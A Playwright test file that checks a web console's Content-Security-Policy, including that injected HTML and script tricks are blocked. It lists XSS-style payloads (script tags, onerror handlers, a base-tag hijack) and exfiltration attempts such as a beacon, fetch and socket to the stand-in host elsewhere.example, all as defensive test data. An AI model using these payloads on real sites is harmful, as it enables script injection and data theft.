import { expect, type Page, test } from '../support/browser-test';
import { everySight, haveExamples, type Sight } from '../support/every-page';
import { sql } from '../support/run-database';
import { refusals, watchPolicy } from '../support/watch-policy';

/**
 * The Content-Security-Policy in a browser: our own pages live under it, and what somebody else puts into one does not.
 * What stands in the headers is in headers.spec.ts.
 */

// So many pages make a trace that takes longer than the test.
test.use({ trace: 'off' });

let sights: Sight[] = [];

test.beforeAll(async ({ browser }) => {
  test.setTimeout(120_000);
  const page = await browser.newPage();
  await haveExamples(page);
  sights = await everySight(page);
  await page.close();
});

/** React has taken over the document: its own marks stand on the elements that the server sent. */
const isHydrated = (page: Page) =>
  page
    .locator('main')
    .first()
    .evaluate((main) => Object.keys(main).some((key) => key.startsWith('__reactFiber$')));

test('every page comes to life under its policy, and asks for nothing that the policy refuses', async ({
  browser,
  storageState,
  allowConsole,
}) => {
  test.setTimeout(300_000);
  allowConsole(/status of 40[34]/);
  const inside = await browser.newContext({ storageState, locale: 'en-GB' });
  const outside = await browser.newContext({ storageState: undefined, locale: 'en-GB' });
  for (const context of [inside, outside]) await watchPolicy(context);
  for (const { name, address, act, signedOut } of sights) {
    await test.step(name, async () => {
      const page = await (signedOut ? outside : inside).newPage();
      await page.goto(address);
      await expect.poll(() => isHydrated(page), name).toBe(true);
      await act?.(page);
      expect.soft(await refusals(page), name).toEqual([]);
      await page.close();
    });
  }
  await inside.close();
  await outside.close();
});

test('so does a page that the router fetched, whose payload carries the nonce of another answer', async ({
  page,
}) => {
  await watchPolicy(page.context());
  await page.goto('/settings');
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
  for (const name of [
    'Overview',
    'Mailboxes',
    'Customers',
    'Messages',
    'Error codes',
    'Staff',
    'History',
    'Settings',
  ]) {
    await page.getByRole('link', { name, exact: true }).first().click();
    await expect(page).toHaveTitle(new RegExp(`^${name}`));
  }
  await page.getByRole('link', { name: 'Mailboxes', exact: true }).first().click();
  await page.locator('tbody a').first().click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText('@');
  expect(await page.evaluate(() => 'sameDocument' in window)).toBe(true);
  expect(await refusals(page)).toEqual([]);
});

test('a dialog holds the page behind it, and lets it go', async ({ page }) => {
  await watchPolicy(page.context());
  await page.setViewportSize({ width: 1280, height: 500 });
  const { address } = sights.find(({ name }) => name === 'mailbox-working') ?? { address: '' };
  await page.goto(address);
  const scrolled = () => page.evaluate(() => document.scrollingElement?.scrollTop ?? 0);
  await page.getByRole('button', { name: 'Delete mailbox' }).click();
  await expect(page.getByRole('alertdialog')).toBeVisible();
  const before = await scrolled();
  await page.mouse.move(20, 20);
  await page.mouse.wheel(0, -4000);
  await page.waitForTimeout(300);
  expect(await scrolled()).toBe(before);
  expect(before).toBeGreaterThan(0);
  await page.keyboard.press('Escape');
  await expect(page.getByRole('alertdialog')).toBeHidden();
  await page.mouse.wheel(0, -4000);
  await expect.poll(scrolled).toBe(0);
  expect(await refusals(page)).toEqual([]);
});

/** Every request that gets as far as another site, which answers it. */
async function watchElsewhere(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.route('https://elsewhere.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  return asked;
}

/** What somebody may get into the HTML of a page, and the directive that refuses it. */
const INJECTED: readonly (readonly [html: string, directive: string])[] = [
  ['<script>ran.push("a script")</script>', 'script-src-elem'],
  ['<script nonce="">ran.push("a script with an empty nonce")</script>', 'script-src-elem'],
  ['<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">ran.push("a guessed nonce")</script>', 'script-src-elem'],
  ['<script src="/injected.js"></script>', 'script-src-elem'],
  ['<script src="https://elsewhere.example/injected.js"></script>', 'script-src-elem'],
  ['<img src="/none.png" onerror="ran.push(\'an event handler\')">', 'script-src-attr'],
  ['<svg onload="ran.push(\'an event handler in SVG\')"></svg>', 'script-src-attr'],
  ['<iframe srcdoc="<script>parent.ran.push(\'a frame\')</script>"></iframe>', 'script-src-elem'],
  ['<iframe src="https://elsewhere.example/"></iframe>', 'frame-src'],
  ['<object data="/icon.svg"></object>', 'object-src'],
  ['<embed src="/icon.svg">', 'object-src'],
  ['<base href="https://elsewhere.example/">', 'base-uri'],
  ['<style>main { display: none }</style>', 'style-src-elem'],
  ['<p style="position: fixed; inset: 0">over everything</p>', 'style-src-attr'],
  ['<link rel="stylesheet" href="https://elsewhere.example/a.css">', 'style-src-elem'],
  ['<img src="https://elsewhere.example/told.png?secret">', 'img-src'],
  ['<video src="https://elsewhere.example/told.mp4"></video>', 'media-src'],
];

test('nothing that is put into its HTML runs, or tells another site anything', async ({
  page,
  allowConsole,
}) => {
  // React finds HTML that it did not make, and makes the page anew.
  allowConsole(/Content Security Policy|ERR_|404|Framing|React error #418/);
  const asked = await watchElsewhere(page);
  await watchPolicy(page.context());
  await page.addInitScript(() => Object.assign(window, { ran: [] }));
  await page.route('**/injected.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'ran.push("a file")' }),
  );
  await page.route(/\/settings$/, async (route) => {
    const answer = await route.fetch();
    const html = await answer.text();
    await route.fulfill({
      response: answer,
      body: html.replace('</main>', `${INJECTED.map(([text]) => text).join('')}</main>`),
    });
  });
  await page.goto('/settings');
  await page.waitForLoadState('networkidle');
  expect(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)).toEqual([]);
  expect(asked).toEqual([]);
  const refused = await refusals(page);
  const directives = new Set(refused.map((text) => text.split(':')[0]));
  expect([...directives].sort()).toEqual([...new Set(INJECTED.map(([, directive]) => directive))].sort());
});

test('what a script of ours could be talked into does not run either', async ({ page, allowConsole }) => {
  allowConsole(/Content Security Policy|ERR_|404/);
  const asked = await watchElsewhere(page);
  await watchPolicy(page.context());
  await page.goto('/settings');
  const tricks = await page.evaluate(async () => {
    const ran: string[] = [];
    Object.assign(window, { ran });
    // What the test itself evaluates may evaluate; what runs later is a script of the page like any other.
    await new Promise((go) => setTimeout(go, 0));
    const attempts: Record<string, () => unknown> = {
      'new Function': () => new Function('ran.push("new Function")')(),
      'a text as a timer': () => setTimeout('ran.push("a text as a timer")' as unknown as () => void, 0),
      'a javascript: address': () => {
        const link = document.createElement('a');
        link.href = 'javascript:ran.push("a javascript: address")';
        document.body.append(link);
        link.click();
      },
      'HTML with a handler': () => {
        document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="ran.push(\'HTML\')">');
      },
      'a worker': () => new Worker(URL.createObjectURL(new Blob(['0']))),
      'a call to another site': () => fetch('https://elsewhere.example/'),
      'a beacon': () => navigator.sendBeacon('https://elsewhere.example/', 'secret'),
      'a socket': () => new WebSocket('wss://elsewhere.example/'),
      'a form to another site': () => {
        const form = document.createElement('form');
        Object.assign(form, { action: 'https://elsewhere.example/', method: 'post' });
        document.body.append(form);
        form.submit();
      },
    };
    for (const attempt of Object.values(attempts)) {
      try {
        await attempt();
      } catch {
        // Refused, as it should be.
      }
    }
    await new Promise((go) => setTimeout(go, 500));
    return ran;
  });
  expect(tricks).toEqual([]);
  expect(asked).toEqual([]);
  const directives = new Set((await refusals(page)).map((text) => text.split(':')[0]));
  expect([...directives].sort()).toEqual(
    ['connect-src', 'form-action', 'script-src', 'script-src-attr', 'script-src-elem', 'worker-src'].sort(),
  );
  expect(new URL(page.url()).pathname).toBe('/settings');
});

test.describe('a page that fails', () => {
  /** Takes a table away while `work` runs. */
  async function without(table: string, work: () => Promise<void>): Promise<void> {
    await sql(`alter table ${table} rename to ${table}_away`);
    try {
      await work();
    } finally {
      await sql(`alter table ${table}_away rename to ${table}`);
    }
  }

  for (const [where, table, address] of [
    ['inside the console', 'message', '/messages'],
    ['outside its frame', 'staff_session', '/settings'],
  ] as const) {
    test(`${where} comes to life too: its button shows the page again`, async ({ page, allowConsole }) => {
      allowConsole(/500|Server Components render|React error #441/);
      await watchPolicy(page.context());
      await without(table, async () => {
        await page.goto(address);
        await expect(page.getByRole('heading', { name: 'This page could not be shown' })).toBeVisible();
      });
      await page.getByRole('button', { name: 'Try again' }).click();
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(/^(Messages|Settings)$/);
      expect(await refusals(page)).toEqual([]);
    });
  }
});
